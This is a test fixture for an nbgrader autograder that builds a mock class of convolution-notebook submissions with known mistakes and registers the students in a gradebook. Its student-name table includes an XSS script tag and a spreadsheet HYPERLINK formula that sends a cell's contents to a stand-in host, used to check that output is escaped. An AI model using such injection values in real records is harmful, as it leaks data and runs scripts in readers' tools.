"""A class whose mistakes are known beforehand: what the class report is to find."""

import nbformat
from nbgrader.api import Gradebook

from autograder.grading.sample_class import ASSIGNMENT, NOTEBOOK, fill, without_plots

# All written alike but for names and layout: a slow and honest way, and what goes wrong in it.
CONV2D = """def conv2d(x, weight, bias=None):
    n, c, h, w = x.shape
    f, _, kh, kw = weight.shape
    out = np.zeros((n, f, h - kh + 1, w - kw + 1))
    for b in range(n):
        for o in range(f):
            for i in range(h - kh + 1):
                for j in range(w - kw + 1):
                    out[b, o, i, j] = np.sum(x[b, :, i:i + kh, j:j + kw] * weight[o]{flip})
    {bias}
    return out
"""
ADDS_BIAS = "if bias is not None:\n        out = out + bias[:, None, None]"
FLIPPED = {"conv2d": CONV2D.format(flip="[:, ::-1, ::-1]", bias=ADDS_BIAS)}
RENAMED = {
    "conv2d": CONV2D.format(flip="[:, ::-1, ::-1]", bias=ADDS_BIAS)
    .replace("out", "ergebnis")
    .replace("kh", "hoehe")
    .replace("    n, c", "    # my own work\n\n    n, c")
}
NO_BIAS = {"conv2d": CONV2D.format(flip="", bias="pass"), "conv1d": '''def conv1d(x, weight, bias=None):
    size = weight.shape[2]
    steps = x.shape[2] - size + 1
    return np.stack([np.einsum("ncs,fcs->nf", x[:, :, i:i + size], weight) for i in range(steps)], axis=-1)
'''}  # fmt: skip
CRASHES = {"conv3d": "def conv3d(x, weight, bias=None):\n    return undefined_name + x"}
STUB = "def {name}({args}):\n    raise NotImplementedError()"
LEFT_OPEN = {
    "conv3d": STUB.format(name="conv3d", args="x, weight, bias=None"),
    "conv2d": STUB.format(name="conv2d", args="x, weight, bias=None"),
}
OWN_WAY = {"correlate1d": '''def correlate1d(signal, kernel):
    steps = len(signal) - len(kernel) + 1
    found = []
    for i in range(steps):
        total = 0.0
        for a in range(len(kernel)):
            total = total + float(signal[i + a]) * float(kernel[a])
        found.append(total)
    if len(found) == 0:
        return np.zeros(0)
    return np.array(found, dtype=float)
'''}  # fmt: skip
ODD = {"conv1d": "def conv1d(x, weight, bias=None):\n    return np.zeros((1, 2, 3))"}
STYLES = (
    {},
    FLIPPED,
    NO_BIAS,
    RENAMED,
    LEFT_OPEN,
    OWN_WAY,
    CRASHES,
    {**ODD, **FLIPPED},
    {**LEFT_OPEN, **NO_BIAS, **CRASHES},
)
# Names as an enemy of the report and of the gradebook would choose them.
NAMES = {
    0: ("<script>alert(1)</script>", "O'Brien & Sons"),
    1: ('=HYPERLINK("http://evil.example/?x="&A1,"look")', "+49"),
    2: ('Zoë, the "first"', "Müller; Möller"),
}


def hand_in(course, count):
    """Fill `submitted/` with so many submissions and one that cannot be read; put their names into the gradebook."""
    released = nbformat.read(course / "release" / ASSIGNMENT / f"{NOTEBOOK}.ipynb", as_version=4)
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
        for number in range(count):
            name = f"student{number:03}"
            folder = course / "submitted" / name / ASSIGNMENT
            folder.mkdir(parents=True)
            style = STYLES[number % len(STYLES)] if number >= 3 else STYLES[(number + 1) % 3]
            filled = fill(released, style, written="The bright window wins." if number % 2 else "")
            nbformat.write(without_plots(filled), folder / f"{NOTEBOOK}.ipynb")
            first, last = NAMES.get(number, (f"First{number}", f"Last{number}"))
            gradebook.update_or_create_student(name, first_name=first, last_name=last, email=f"{name}@example.org")
        gradebook.update_or_create_student("absent", first_name="Ab", last_name="Sent", email="absent@example.org")
        gradebook.update_or_create_student("torn", first_name="To", last_name="Rn", email="torn@example.org")
    folder = course / "submitted" / "torn" / ASSIGNMENT
    folder.mkdir(parents=True)
    (folder / f"{NOTEBOOK}.ipynb").write_text('{"cells": [<b>')
    return course
